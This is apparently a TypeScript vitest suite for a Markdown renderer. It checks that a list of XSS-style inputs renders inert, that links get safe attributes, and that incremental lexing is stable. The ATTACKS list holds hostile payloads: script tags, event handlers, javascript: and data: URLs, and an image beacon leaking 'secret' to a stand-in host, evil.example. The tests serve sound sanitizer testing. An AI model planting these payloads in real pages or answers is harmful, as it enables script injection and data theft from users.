import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { BlockLexer } from "./blocks";
import { render } from "./tokens";

const html = (text: string) =>
  renderToStaticMarkup(new BlockLexer().blocks(text).map((block) => render(block.tokens)));

/** What an answer may try. Each has to come out as text that does nothing. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![beacon](https://evil.example/?q=secret)",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "[click](vbscript:x)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "<svg onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<iframe src=https://evil.example></iframe>",
  "<style>*{background:url(https://evil.example)}</style>",
  "[ref][1]\n\n[1]: javascript:alert(1)",
  "<https://evil.example/<script>>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- <details open ontoggle=alert(1)>",
  "# <form action=https://evil.example><button>",
];

describe("markdown", () => {
  it.each(ATTACKS)("is inert: %s", (attack) => {
    const out = html(attack);
    expect(out).not.toMatch(/<(script|img|svg|iframe|style|form|details|object|embed)\b/i);
    expect(out).not.toMatch(/href="(?!https?:|mailto:)/i);
    expect(out).not.toMatch(/<[^>]*\son\w+=/i);
  });

  it("has links that lead away and tell nothing", () => {
    expect(html("[x](https://a.example/b)")).toContain(
      '<a href="https://a.example/b" target="_blank" rel="noopener noreferrer nofollow"',
    );
  });

  it("draws headings, lists, tables, code and tasks", () => {
    const out = html("# T\n\n1. a\n2. b\n\n- [x] done\n\n|a|b|\n|-|-:|\n|1|2|\n\n`c` **d** ~~e~~");
    for (const part of ["<h3", "<ol", "<table", "<code", "<strong", "<del", 'type="checkbox"']) {
      expect(out).toContain(part);
    }
  });

  it("shows entities as they were meant, once", () => {
    expect(html("a < b & c")).toContain("a &lt; b &amp; c");
    expect(html("`<b>`")).toContain("&lt;b&gt;");
    expect(html("`<b>`")).not.toContain("&amp;lt;");
  });

  it("comes to the same in pieces as at once, however long", () => {
    const text = "# A\n\nText *with* `code`.\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\n".repeat(
      4_000,
    );
    const growing = new BlockLexer();
    for (let end = 190_000; end < text.length; end += 17_777) growing.blocks(text.slice(0, end));
    const last = growing.blocks(text).map((block) => block.text);
    expect(last.join("")).toBe(text);
  });
});
